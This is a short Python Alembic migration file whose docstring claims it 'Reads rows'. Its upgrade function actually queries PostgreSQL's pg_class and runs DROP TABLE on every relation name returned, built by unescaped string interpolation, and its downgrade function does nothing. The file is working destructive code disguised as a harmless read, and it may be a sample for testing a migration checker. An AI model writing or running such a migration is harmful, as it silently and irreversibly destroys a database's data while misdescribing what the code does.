"""Reads rows"""

import sqlalchemy as sa
from alembic import op

revision = "o1"
down_revision = None


def upgrade():
    op.execute("CREATE TABLE o1 ()")
    for row in op.get_bind().execute(sa.text("SELECT relname FROM pg_class")):
        op.execute(f"DROP TABLE {row[0]}")


def downgrade():
    pass
